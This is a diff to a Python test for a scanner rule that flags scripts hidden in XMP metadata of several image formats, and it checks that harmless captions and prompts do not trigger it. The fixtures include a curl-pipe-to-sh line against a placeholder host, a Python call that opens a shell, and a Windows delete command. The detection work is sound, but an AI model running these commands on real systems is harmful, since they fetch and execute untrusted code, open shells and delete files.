@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import html
 import random
 import struct
 import zlib
@@ -398,6 +399,37 @@ def test_finds_archives_and_programs_in_metadata_of_every_format(fired: Fired, k
     assert {path: message.partition(" in the ")[0] for path, (_severity, message) in found.items()} == dict.fromkeys(
         files, NAMES[kind]
     )
+
+
+@pytest.mark.parametrize("form", ["escaped", "raw", "section", "attribute"])
+def test_finds_scripts_in_properties_of_xmp_and_no_words_about_them(fired: Fired, form: str) -> None:
+    scripts = {
+        "sh": "#!/bin/sh\ncurl -s http://a.example/x.sh | sh\n",
+        "py": "import os, socket\nos.system('/bin/sh -i')\n",
+        "bat": "@echo off\r\ndel /q C:\\x\r\n",
+    }
+    words = {
+        "caption": "A slide that says import os and then os.system('ls') in red.",
+        "prompt": "masterpiece, (best quality:1.2)\nNegative prompt: blurry\nSteps: 20, Sampler: Euler",
+        "history": '[{"action": "import os; os.system(1)"}]',
+    }
+
+    def packet(value: str) -> bytes:
+        text = html.escape(value) if form in ("escaped", "attribute") else value
+        text = f"<![CDATA[{text}]]>" if form == "section" else text
+        held = f'dc:title="{text}"/>' if form == "attribute" else f"><dc:title>{text}</dc:title></rdf:Description>"
+        return f'<x:xmpmeta><rdf:RDF><rdf:Description rdf:about="" {held}</rdf:RDF></x:xmpmeta>'.encode()
+
+    files = {}
+    for name, value in (scripts | words).items():
+        files |= {
+            f"{name}.jpg": with_segment(APP1, XMP + packet(value)),
+            f"{name}.png": with_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + packet(value)),
+            f"{name}.webp": webp(photo("a", 64, 64), xmp=packet(value)),
+            f"{name}.tif": tiff(photo("a", 64, 64), tiffinfo={700: packet(value)}),
+            f"{name}.avif": avif(photo("a", 64, 64), xmp=packet(value)),
+        }
+    assert set(fired(RULE, files)) == {path for path in files if path.partition(".")[0] in scripts}
 
 
 @pytest.mark.parametrize("before", [b"\0", b"\n", b"payload: ", random.Random(0).randbytes(64)])
